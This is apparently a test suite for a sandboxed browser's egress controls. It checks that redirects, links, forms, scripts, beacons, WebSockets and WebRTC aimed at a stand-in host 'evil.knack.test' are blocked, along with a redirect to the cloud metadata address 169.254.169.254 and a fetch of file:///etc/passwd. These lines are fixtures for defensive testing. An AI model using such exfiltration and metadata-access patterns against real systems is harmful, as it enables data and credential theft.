import { execFile } from "node:child_process";
import { readFile } from "node:fs/promises";
import { type AddressInfo, createServer } from "node:net";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { BrowserSession } from "#core/ports/index.ts";
import { codeOf, grant, html, never, openStage, type Stage } from "../browser/stage.ts";

const app = "app.knack.test";
const evil = "evil.knack.test";
const cdn = "cdn.knack.test";
const to = (location: string) => () => new Response(null, { status: 302, headers: { location } });
const atApp = (path: string): string => `https://${app}${path}`;

const pages = {
  "/": html(`<h1>App</h1><a href="https://${evil}/">Away</a><a href="/r">Redirected away</a><a href="https://${evil}/" target="_blank">Away in a tab</a>
    <form action="https://${evil}/take" method="post"><input type="hidden" name="a" value="1"><button>Send away</button></form>
    <button onclick="window.open('https://${evil}/popup')">Popup away</button><button onclick="location.href='https://${evil}/'">Script away</button>`),
  "/r": to(`https://${evil}/landed`),
  "/r-port": to(`https://${app}:8443/`),
  "/r-http": to(`http://${app}/`),
  "/r-meta": to("http://169.254.169.254/latest"),
  "/r-cdn": to(`https://${cdn}/back`),
  "/loop": to("/loop2"),
  "/loop2": to("/loop"),
  "/refresh": html(`<meta http-equiv="refresh" content="0;url=https://${evil}/"><h1>Refresh</h1>`),
  "/parts":
    html(`<h1>Parts</h1><img src="https://${evil}/p.gif"><img src="https://${cdn}/ok.gif"><script src="https://${evil}/s.js"></script><iframe src="https://${evil}/frame"></iframe>
    <link rel="preconnect" href="https://${evil}"><link rel="dns-prefetch" href="https://pre.${evil}">
    <script>fetch("https://${evil}/f").catch(()=>{});fetch("https://${evil}/k",{mode:"no-cors",keepalive:true}).catch(()=>{});new WebSocket("wss://${evil}/ws").onerror=()=>{};new EventSource("https://${evil}/es");navigator.sendBeacon("https://${evil}/b","x");
    document.title=[typeof RTCPeerConnection, typeof document.createElement("iframe").RTCPeerConnection].join()</script>`),
  "/channels": html(`<h1>Channels</h1><p id="p"></p><script>(async()=>{const said=[];
    said.push("rtc "+typeof RTCPeerConnection);
    const f=document.body.appendChild(document.createElement("iframe")); said.push("frame "+typeof f.contentWindow.RTCPeerConnection);
    try{await navigator.serviceWorker.register("/sw.js");said.push("sw yes")}catch(e){said.push("sw no")}
    try{await fetch("file:///etc/passwd");said.push("file yes")}catch(e){said.push("file no")}
    for(const name of ["geolocation","notifications","camera","microphone"]){try{said.push(name+" "+(await navigator.permissions.query({name})).state)}catch(e){said.push(name+" none")}}
    document.getElementById("p").textContent=said.join("; ")})()</script>`),
  "/sw.js": () => new Response("", { headers: { "content-type": "text/javascript" } }),
  "/poll": html(
    '<h1>Poll</h1><p id="p">on</p><script>setInterval(()=>fetch("/tick").catch(()=>{document.getElementById("p").textContent="off"}),100)</script>',
  ),
  "/tick": () => new Response("tick"),
};

let stage: Stage;
let session: BrowserSession;

beforeAll(async () => {
  const evilPage = html("<h1>Evil</h1>");
  stage = await openStage({
    [app]: pages,
    [evil]: { "/": evilPage, "/landed": evilPage, "/take": evilPage, "/popup": evilPage, "/frame": evilPage },
    [cdn]: { "/ok.gif": () => new Response(""), "/back": to(atApp("/")) },
  });
  session = await stage.launch({ destinations: [grant(app), grant(cdn, { use: "subresource" })] });
});
afterAll(async () => {
  expect(stage.served.hits.get(evil) ?? 0).toBe(0);
  await stage.close();
});

describe("a page that leads elsewhere", () => {
  it.each([
    ["HOP-01", "/r", "hop.host"],
    ["HOP-03", "/r-cdn", "hop.kind"],
    ["HOP-04", "/r-port", "hop.port"],
    ["HOP-04", "/r-http", "hop.scheme"],
    ["HOP-05", "/r-meta", "dest.ip"],
    ["HOP-08", "/loop", "hop.limit"],
  ])("%s: opening %s ends with %s", async (_row, path, code) => {
    expect(await codeOf(session.open(atApp(path), never))).toBe(code);
    expect((await session.open(atApp("/"), never)).page.heading).toBe("App");
  });

  it("names the host it was not sent to", async () => {
    await expect(session.open(atApp("/r"), never)).rejects.toThrow(
      `The site sent the browser on to ${evil}, which you have not granted, so nothing was sent there.`,
    );
  });

  it.each([
    ["link", "Away", "dest.host"],
    ["link", "Redirected away", "hop.host"],
    ["link", "Away in a tab", "dest.host"],
    ["button", "Send away", "dest.host"],
    ["button", "Popup away", "dest.host"],
    ["button", "Script away", "dest.host"],
  ])("is refused after clicking the %s %j, and the page stays", async (role, name, code) => {
    await session.open(atApp("/"), never);
    expect(await codeOf(session.click({ role, name }, never))).toBe(code);
    expect((await session.view(never)).heading).toBe("App");
  });

  it("HOP-10: by itself is refused as well", async () => {
    expect(await codeOf(session.open(atApp("/refresh"), never))).toBe("dest.host");
  });

  it("HOP-14, NET-01 to NET-04, NET-11: loses those parts, and only those", async () => {
    const outcome = await session.open(atApp("/parts"), never);
    expect(outcome.page.heading).toBe("Parts");
    expect(outcome.refused.some((refusal) => refusal.host === evil)).toBe(true);
    expect(stage.asked(cdn)).toContain("GET /ok.gif");
    expect(stage.egress().decisions.filter((decision) => decision.allowed && decision.host.endsWith(evil))).toEqual([]);
  });

  it("NET-05, NET-09, SBX-01, SBX-05: finds no other way out", async () => {
    const { page } = await session.open(atApp("/channels"), never);
    const text = (await session.wait(300, never)).page.text + page.text;
    expect(text).toContain("rtc undefined; frame undefined; sw");
    expect(text).toContain("file no");
    expect(stage.asked(app)).not.toContain("GET /sw.js");
    expect(text).not.toMatch(/(?:geolocation|notifications|camera|microphone) (?:granted|prompt)/u);
  });

  it("HOP-18: is cut off when the grant is taken back", async () => {
    await session.open(atApp("/poll"), never);
    session.setDestinations([]);
    await session.wait(600, never);
    const before = stage.asked(app).length;
    expect((await session.wait(500, never)).page.text).toContain("off");
    expect(stage.asked(app).length).toBe(before);
    expect(await codeOf(session.open(atApp("/"), never))).toBe("grant.revoked");
    session.setDestinations([grant(app), grant(cdn, { use: "subresource" })]);
    expect((await session.open(atApp("/"), never)).page.heading).toBe("App");
  });

  it("DNS-08: goes nowhere by itself when the proxy is gone, not even where it could", async () => {
    let hits = 0;
    const server = createServer((socket) => {
      hits += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as AddressInfo;
    const local = { scheme: "http", host: "127.0.0.1", port, use: "navigate", allowPrivate: true } as const;
    const own = await stage.launch({ destinations: [grant(app), local] });
    await own.open(atApp("/"), never);
    expect(await codeOf(own.open(`http://127.0.0.1:${port}/`, never))).toBe("browser.unreachable");
    const reached = hits;
    expect(reached).toBeGreaterThan(0);
    await stage.egress().close();
    for (const url of [`http://127.0.0.1:${port}/`, atApp("/")]) expect(await codeOf(own.open(url, never))).toMatch(/^(?:proxy\.down|browser\.unreachable)$/u);
    expect(hits).toBe(reached);
    await own.close();
    server.close();
  });

  it("refuses a private address before it is dialled", async () => {
    let hits = 0;
    const server = createServer((socket) => {
      hits += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    expect(await codeOf(session.open(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`, never))).toBe("dest.ip");
    expect(hits).toBe(0);
    server.close();
  });
});

describe.skipIf(process.platform !== "linux")("the browser process", () => {
  const run = promisify(execFile);

  async function browserOf(port: number): Promise<string[]> {
    const { stdout } = await run("ps", ["-eo", "pid,args"]);
    return stdout.split("\n").filter((line) => line.includes(`--proxy-server=http://127.0.0.1:${port}`));
  }

  it("SBX-08: speaks over a pipe, has no port of its own, and is gone after close", async () => {
    const own = await stage.launch();
    const { port } = stage.egress();
    const lines = await browserOf(port);
    const main = lines.find((line) => !line.includes("--type="));
    expect(main).toContain("--remote-debugging-pipe");
    expect(main).not.toContain("--remote-debugging-port");
    await own.close();
    expect(await browserOf(port)).toEqual([]);
  });

  it("RES-11: can crash; the next page opens in a fresh one", async () => {
    const own = await stage.launch();
    await own.open(atApp("/"), never);
    const [main] = (await browserOf(stage.egress().port)).filter((line) => !line.includes("--type="));
    process.kill(Number(main?.trim().split(/\s+/u)[0]), "SIGKILL");
    expect(await codeOf(own.click({ role: "link", name: "Away" }, never))).toBe("browser.crashed");
    expect((await own.open(atApp("/"), never)).page.heading).toBe("App");
    await own.close();
  });

  it("RES-13: does not outlive a host that is killed", async () => {
    const script = new URL("./killed-host.ts", import.meta.url).pathname;
    const { stdout } = await run(process.execPath, [script]).catch((error: { stdout: string }) => error);
    const port = Number(/port (\d+)/u.exec(stdout)?.[1]);
    expect(port).toBeGreaterThan(0);
    let left = await browserOf(port);
    for (let tries = 0; left.length > 0 && tries < 50; tries += 1) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      left = await browserOf(port);
    }
    expect(left).toEqual([]);
  });

  it("DNS-09: takes no proxy from the environment", async () => {
    const own = await stage.launch();
    const [main] = (await browserOf(stage.egress().port)).filter((line) => !line.includes("--type="));
    const args = await readFile(`/proc/${Number(main?.trim().split(/\s+/u)[0])}/cmdline`, "utf8");
    expect(args).toContain("--proxy-bypass-list=<-loopback>");
    expect(args).toContain("--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1");
    await own.close();
  });
});
